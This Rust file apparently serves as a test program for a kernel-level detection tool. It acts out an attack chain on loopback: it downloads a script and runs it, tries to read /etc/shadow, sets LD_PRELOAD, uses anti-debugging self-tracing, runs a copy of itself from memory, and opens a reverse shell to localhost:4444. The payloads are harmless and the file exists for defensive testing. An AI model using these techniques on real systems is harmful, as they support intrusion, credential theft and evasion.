//! A real attack chain on the loopback, from a download to a reverse shell. Each step is the thing
//! itself, not a sign of it: rules must find it in what the kernel saw.

use std::fs::{self, File, Permissions};
use std::io::{self, Read};
use std::net::{Ipv4Addr, SocketAddrV4, TcpListener};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, ExitCode};
use std::thread;

use tracee_guest::{Step, http, process};

const STEPS: &[Step] = &[
    Step::new("download", download),
    Step::new("shadow", read_shadow),
    Step::new("preload", preload),
    Step::new("anti-debugging", anti_debugging),
    Step::new("fileless", execute_from_memory),
    Step::new("reverse-shell", reverse_shell),
];

const SCRIPT: &str = "/tmp/update.sh";
const LIBRARY: &str = "/tmp/libhook.so";
/// Fixed, so that every run and recording has the same arguments.
const HTTP_PORT: u16 = 8931;
const SHELL_PORT: u16 = 4444;
/// Argument of the copy of this program that runs from memory.
const PAYLOAD: &str = "--payload";

fn main() -> ExitCode {
    if std::env::args().nth(1).as_deref() == Some(PAYLOAD) {
        return ExitCode::SUCCESS;
    }
    tracee_guest::main(STEPS)
}

/// A script from the net, made executable and run; its traces removed.
fn download() -> io::Result<String> {
    let script = Path::new(SCRIPT);
    http::download(HTTP_PORT, "update.sh", "#!/bin/sh\nexit 0\n", script)?;
    fs::set_permissions(script, Permissions::from_mode(0o755))?;
    let status = Command::new(script).status()?;
    fs::remove_file(script)?;
    Ok(format!("downloaded {SCRIPT} and ran it: {status}"))
}

fn read_shadow() -> io::Result<String> {
    let mut text = Vec::new();
    match File::open("/etc/shadow").and_then(|mut file| file.read_to_end(&mut text)) {
        Ok(bytes) => Ok(format!("read {bytes} bytes of /etc/shadow")),
        // Having tried is what matters.
        Err(err) if err.kind() == io::ErrorKind::PermissionDenied => {
            Ok("/etc/shadow is not ours to read".to_owned())
        }
        Err(err) => Err(err),
    }
}

/// The library is not there: a dynamic loader says so and goes on.
fn preload() -> io::Result<String> {
    let status = Command::new("/bin/true")
        .env("LD_PRELOAD", LIBRARY)
        .status()?;
    Ok(format!("ran /bin/true with LD_PRELOAD={LIBRARY}: {status}"))
}

fn anti_debugging() -> io::Result<String> {
    process::trace_me_in_child()?;
    Ok("a child asked to be traced by its parent".to_owned())
}

fn execute_from_memory() -> io::Result<String> {
    let mut memory = process::memory_file(c"stage2")?;
    io::copy(&mut File::open("/proc/self/exe")?, &mut memory)?;
    process::execute_file(&memory, &[c"stage2", c"--payload"])?;
    Ok("ran a program that is in no file system".to_owned())
}

fn reverse_shell() -> io::Result<String> {
    let address = SocketAddrV4::new(Ipv4Addr::LOCALHOST, SHELL_PORT);
    let listener = TcpListener::bind(address)?;
    let attacker = thread::spawn(move || {
        let (mut shell, _) = listener.accept()?;
        let mut said = String::new();
        shell.read_to_string(&mut said).map(|_| said)
    });
    let mut shell = Command::new("/bin/sh");
    shell.args(["-c", "id; exit"]);
    process::run_over_socket(shell, address)?;
    let said = attacker
        .join()
        .map_err(|_| io::Error::other("the listener panicked"))??;
    Ok(format!("a shell over {address} said {:?}", said.trim_end()))
}
